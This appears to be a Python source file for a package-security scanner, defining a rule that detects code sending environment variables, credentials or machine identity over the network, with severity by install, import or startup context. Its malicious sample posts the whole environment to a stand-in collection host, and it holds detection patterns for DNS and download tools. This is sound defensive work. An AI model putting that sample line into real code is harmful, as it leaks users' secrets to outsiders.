"""Secrets, or who and where the machine is, sent over the network without being asked."""

from __future__ import annotations

import re
from collections.abc import Iterator

from wheelmark.scan.facts import Act, Call, Facts
from wheelmark.scan.report import Context, Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import SHELL_DOWNLOAD, URL, told
from wheelmark.scan.samples import Sample, Samples
from wheelmark.scan.values import GAP, Origin, Taint, joined_origins
from wheelmark.scan.vocabulary import LOOK_UPS

_DNS_COMMAND = re.compile(r"(?i)\b(nslookup|dig|ping|host)\b.*\.[a-z]{2,}")
_LOCAL = re.compile(r"(?i)^(https?://)?(localhost|127\.|0\.0\.0\.0|\[::1\])")
_MIN_HOST_FACTS = 2  # one name alone is how many services tell their clients apart


def check(facts: Facts) -> Iterator[Evidence]:
    for call in facts.calls_of(Act.SEND, Act.START_PROCESS):
        wanted = {Taint.SECRET, Taint.HOST}
        if call.act is Act.SEND and call.context.automatic:
            wanted.add(Taint.OUTPUT)  # what a program printed that nobody asked for
        origins = [origin for origin in _sent(call) if origin.taint in wanted]
        if not origins or call.context is Context.UNREACHED or not _leaves(call):
            continue
        yield Evidence.of_call(call, _severity(call, origins), f"{call.name} of {told(origins)}", origins=_sent(call))


def _sent(call: Call) -> list[Origin]:
    """What goes out, without the one token in the headers that a client authenticates with."""
    body = joined_origins([*call.arguments, *(value for name, value in call.keywords if name != "headers")])
    headers = joined_origins([value for name, value in call.keywords if name == "headers"])
    whole = {origin for origin in headers if not origin.what.startswith("os.environ[")}
    return sorted(body | whole)


def _leaves(call: Call) -> bool:
    text = call.text
    if call.act is Act.START_PROCESS:
        return (SHELL_DOWNLOAD.search(text) is not None and URL.search(text) is not None) or _DNS_COMMAND.search(
            text
        ) is not None
    if call.name in LOOK_UPS:
        # Looking up one's own name is ordinary; looking up one's name under somebody's domain tells that somebody.
        return "." in text.replace(GAP, "") and GAP in text
    return _LOCAL.search(text) is None


def _severity(call: Call, origins: list[Origin]) -> Severity:
    whole = any(origin.taint is Taint.SECRET and not origin.what.startswith("os.environ[") for origin in origins)
    secrets = any(origin.taint is Taint.SECRET for origin in origins)
    hosts = {origin.what for origin in origins if origin.taint is Taint.HOST}
    if call.context in (Context.INSTALL, Context.STARTUP):
        return Severity.CRITICAL
    if call.context is Context.IMPORT:
        if whole or len(hosts) >= _MIN_HOST_FACTS:
            return Severity.CRITICAL
        return Severity.HIGH if hosts or secrets else Severity.MEDIUM
    if whole:
        return Severity.HIGH if call.context is Context.ENTRY else Severity.MEDIUM
    return Severity.LOW if hosts else Severity.INFO


RULE = Rule(
    id="secrets-sent",
    version=2,
    severity=Severity.CRITICAL,
    tactic=Tactic.EXFILTRATION,
    message="The environment, credentials, the identity of the machine or what programs print go out over the network.",
    reference="https://attack.mitre.org/techniques/T1041/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import os

                import requests

                requests.post("https://collect.example.invalid/", json=dict(os.environ))
            """),
        ),
        benign=(
            Sample.installed("""
                import os
                import urllib.request
                from setuptools import setup


                def releases():
                    headers = {"Authorization": "Bearer " + os.environ["GITHUB_API_TOKEN"]}
                    request = urllib.request.Request("https://api.example.invalid/releases", headers=headers)
                    return urllib.request.urlopen(request).read()


                if os.environ.get("WITH_RELEASES"):
                    releases()
                setup(name="widget", version="1")
            """),
            Sample.imported("""
                import os
                import platform

                import requests

                DEBUG = os.environ.get("SAMPLE_DEBUG") == "1"
                AGENT = f"sample on {platform.system()}"


                def fetch(url):
                    return requests.get(url, headers={"User-Agent": AGENT}, timeout=10)
            """),
            Sample.installed("""
                import os
                import requests
                from setuptools import setup

                if os.environ.get("WITH_RELEASES"):
                    token = os.environ["GITHUB_API_TOKEN"]
                    requests.get("https://api.example.invalid/releases", headers={"Authorization": token})
                setup(name="widget", version="1")
            """),
        ),
    ),
)
